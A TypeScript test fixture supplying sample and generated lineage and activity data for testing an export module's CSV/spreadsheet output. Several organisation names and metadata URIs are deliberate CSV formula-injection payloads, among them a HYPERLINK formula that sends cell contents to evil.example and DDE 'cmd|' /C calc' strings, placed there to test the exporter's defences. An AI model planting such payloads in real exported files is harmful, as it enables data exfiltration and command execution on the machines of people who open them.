/**
 * Export inputs for the tests and bench/exports.ts: a hand-made lineage of several levels with revisions,
 * cross-organisation derivations, hostile text and a truncated edge; an organisation's activity with one event of
 * each shape; and generated inputs of any size.
 */
import { keccak256, toHex, type Address, type Hex } from "viem";
import type { ActivityExport, ExportEvent, LineageExport, LineageExportNode } from "../../../src/server/exports";

/** A deterministic fingerprint for a label. */
export const fp = (label: string): Hex => keccak256(toHex(`export-fixture:${label}`));
/** A deterministic account for a label. */
export const account = (label: string): Address => keccak256(toHex(`account:${label}`)).slice(0, 42) as Address;

const T0 = 1_764_644_645; // 2025-12-02T03:04:05Z

export const AT = {
  block: { number: "4321", hash: keccak256(toHex("block 4321")), timestamp: String(T0 + 86_400), timeIso: "" },
  ledgerSequence: "98765",
  ledgerHead: keccak256(toHex("ledger head")),
  finalized: true,
} as const;

/** Organisation names, two of them written to run as spreadsheet formulas, one to break a naive CSV writer. */
export const ORGANIZATIONS = [
  { id: 1, name: "Provincial Data Bureau" },
  { id: 2, name: '=HYPERLINK("http://evil.example/?x="&A1,"open")' },
  { id: 3, name: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { id: 4, name: 'Harbour Exchange, "Ltd"\r\nsecond line' },
];

function node(
  label: string,
  level: number,
  ownerOrg: number,
  extra: Partial<LineageExportNode> = {},
): LineageExportNode {
  return {
    fingerprint: fp(label),
    level,
    ownerOrg,
    dataClass: level < 0 ? 0 : 2,
    status: "current",
    registeredAt: String(T0 + 1000 * (level + 10)),
    registrant: account(`registrant of ${label}`),
    registrantOrg: ownerOrg,
    scheme: 0,
    metadataHash: fp(`metadata of ${label}`),
    metadataURI: `ipfs://bafy${label}`,
    registeredBlock: String(10_000 + (level + 10) * 7),
    registeredTransaction: fp(`tx of ${label}`),
    ...extra,
  };
}

/**
 * Both directions around `root` (org 1), three levels up and two down:
 *   q0 <-rev- q (org 3) <-der(grant 0)- p (org 2) <-der(grant 7)- root <-rev- root2
 *   r0 <-rev- root;  root <-der(grant 9)- c1 (org 4, frozen) <-der- d (org 2, withdrawn) -der-> p
 *   d -der-> x (beyond the node cap: not among the nodes)
 * `root` was transferred to org 4 after org 1 registered it.
 */
export function sampleLineage(): LineageExport {
  const nodes: LineageExportNode[] = [
    node("root", 0, 4, { registrantOrg: 1, status: "superseded" }),
    node("p", -1, 2, { metadataURI: "-2+3+cmd|' /C calc'!A0" }),
    node("r0", -1, 1, { status: "superseded" }),
    node("c1", 1, 4, { status: "frozen", metadataURI: "=1+1" }),
    node("root2", 1, 4),
    node("q", -2, 3, { metadataURI: "\tleading tab" }),
    node("d", 2, 2, { status: "withdrawn", metadataURI: "+41 phone" }),
    node("q0", -3, 3, { status: "superseded", registrant: undefined, registrantOrg: undefined }),
  ];
  return {
    root: fp("root"),
    direction: "both",
    depth: 3,
    nodes,
    edges: [
      { child: fp("root"), parent: fp("p"), relation: "derived-from", grantId: "7" },
      { child: fp("root"), parent: fp("r0"), relation: "revision-of", grantId: "0" },
      { child: fp("c1"), parent: fp("root"), relation: "derived-from", grantId: "9" },
      { child: fp("root2"), parent: fp("root"), relation: "revision-of", grantId: null },
      { child: fp("p"), parent: fp("q"), relation: "derived-from", grantId: "0" },
      { child: fp("d"), parent: fp("c1"), relation: "derived-from", grantId: "12" },
      { child: fp("d"), parent: fp("p"), relation: "derived-from", grantId: "13" },
      { child: fp("q"), parent: fp("q0"), relation: "revision-of", grantId: "0" },
      { child: fp("d"), parent: fp("x"), relation: "derived-from", grantId: "0" },
    ],
    truncated: true,
    truncatedBy: "nodes",
    organizations: ORGANIZATIONS,
    at: AT,
  };
}

const stamp = (n: number) => ({
  recordHead: fp(`record head ${n}`),
  recordLength: String(n),
  ledgerSequence: String(1000 + n),
  ledgerHead: fp(`ledger head ${n}`),
});

function event(n: number, name: string, args: ExportEvent["args"], withStamp = true): ExportEvent {
  const s = withStamp ? stamp(n) : null;
  return {
    name,
    blockNumber: String(200 + n),
    blockHash: fp(`block ${200 + n}`),
    logIndex: n % 3,
    transactionHash: fp(`tx ${n}`),
    address: account("ledger contract"),
    time: String(T0 + 60 * n),
    args: s === null ? args : { ...args, stamp: s },
    stamp: s,
  };
}

/** Organisation 2's activity: registrations with parents, a grant, a transfer, governance and a batch. */
export function sampleActivity(): ActivityExport {
  return {
    org: { id: 2, name: ORGANIZATIONS[1]!.name },
    from: String(T0),
    to: "2025-12-03T00:00:00Z",
    organizations: ORGANIZATIONS,
    at: AT,
    events: [
      event(1, "OrganizationRegistered", {
        orgId: 2,
        actor: account("admin"),
        name: "=HYPERLINK(1)",
        metadataHash: fp("org 2 metadata"),
        jurisdiction: "0x484b000000000000",
        roles: 3,
      }),
      event(2, "OperatorAdded", { orgId: 2, account: account("operator 2"), by: account("admin") }),
      event(3, "RecordRegistered", {
        fingerprint: fp("p"),
        ownerOrg: 2,
        registrant: account("operator 2"),
        scheme: 0,
        dataClass: 1,
        metadataHash: fp("metadata of p"),
        metadataURI: "-1+1",
        parents: [
          { fingerprint: fp("q"), relation: 0 },
          { fingerprint: fp("p-old"), relation: 1 },
        ],
        derivationGrants: ["5"],
      }),
      event(4, "GrantIssued", {
        fingerprint: fp("p"),
        granteeOrg: 4,
        actor: account("operator 2"),
        grantId: "8",
        grantorOrg: 2,
        scopes: 3,
        purposeHash: fp("purpose"),
        expiresAt: "1099511627775",
        status: 2,
        exportJurisdiction: "0x0000000000000000",
      }),
      event(5, "TransferOffered", {
        fingerprint: fp("p"),
        toOrg: 3,
        actor: account("operator 2"),
        offerId: "2",
        fromOrg: 2,
        termsHash: fp("terms"),
        expiresAt: String(T0 + 9999),
      }),
      event(6, "OwnershipTransferred", {
        fingerprint: fp("p"),
        toOrg: 3,
        actor: account("customs officer"),
        offerId: "2",
        fromOrg: 2,
      }),
      event(7, "BatchAnchored", {
        root: fp("batch root"),
        org: 2,
        registrant: account("operator 2"),
        leafCount: "50",
        metadataHash: fp("manifest"),
        metadataURI: "ipfs://manifest",
      }),
      event(8, "FindingAttached", {
        fingerprint: fp("d"),
        inspectorOrg: 2,
        actor: account("inspector"),
        findingHash: fp("finding"),
      }),
    ],
  };
}

/** 32 distinct bytes for `i` without hashing (a large fixture must not take longer to build than to export). */
const fastHex = (i: number, salt: number): Hex =>
  `0x${(((i + 1) * 2654435761) >>> 0).toString(16).padStart(8, "0")}${salt.toString(16).padStart(8, "0")}${i.toString(16).padStart(48, "0")}`;

/**
 * A lineage of `count` records: ancestors of the root in levels of `width`, each the parent of one record of the
 * level below it (every fifth a revision), owned round-robin by 20 organisations; every 97th metadata URI is a
 * formula.
 */
export function largeLineage(count: number, width = 200): LineageExport {
  const nodes: LineageExportNode[] = [];
  const edges: LineageExport["edges"][number][] = [];
  for (let i = 0; i < count; i++) {
    const level = i === 0 ? 0 : -Math.ceil(i / width);
    const ownerOrg = (i % 20) + 1;
    nodes.push({
      fingerprint: fastHex(i, 1),
      level,
      ownerOrg,
      dataClass: i % 4,
      status: i % 3 === 0 ? "superseded" : "current",
      registeredAt: String(T0 + 10 * i),
      registrant: fastHex(i % 50, 2).slice(0, 42) as Address,
      registrantOrg: ownerOrg,
      scheme: 0,
      metadataHash: fastHex(i, 3),
      metadataURI: i % 97 === 0 ? `=cmd${i}` : `ipfs://large/${i}`,
      registeredBlock: String(10_000 + i),
      registeredTransaction: fastHex(i, 4),
    });
    if (i > 0) {
      const parentBase = Math.max(0, (Math.ceil(i / width) - 2) * width + 1);
      const child = i <= width ? 0 : parentBase + (i % width);
      edges.push({
        child: fastHex(child, 1),
        parent: fastHex(i, 1),
        relation: i % 5 === 0 ? "revision-of" : "derived-from",
        grantId: String(i),
      });
    }
  }
  return {
    root: fastHex(0, 1),
    direction: "up",
    depth: 100,
    nodes,
    edges,
    truncated: false,
    truncatedBy: null,
    organizations: Array.from({ length: 20 }, (_, i) => ({ id: i + 1, name: `Organisation ${i + 1}` })),
    at: AT,
  };
}

/** An activity of `count` events cycling through the sample's events. */
export function largeActivity(count: number): ActivityExport {
  const sample = sampleActivity();
  const events: ExportEvent[] = [];
  for (let i = 0; i < count; i++) {
    const template = sample.events[i % sample.events.length]!;
    events.push({ ...template, blockNumber: String(1000 + i), logIndex: i % 7, time: String(T0 + i) });
  }
  return { ...sample, events };
}
